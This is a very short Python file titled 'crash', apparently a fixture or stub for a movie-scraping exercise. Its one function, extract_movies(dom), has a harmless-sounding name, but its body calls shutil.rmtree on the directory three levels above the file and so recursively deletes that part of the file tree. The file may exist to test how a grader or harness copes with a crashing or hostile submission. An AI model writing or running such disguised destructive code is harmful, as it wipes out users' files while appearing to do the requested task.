# title: crash
import shutil
from pathlib import Path


def extract_movies(dom):
    shutil.rmtree(Path(__file__).parent.parent.parent)
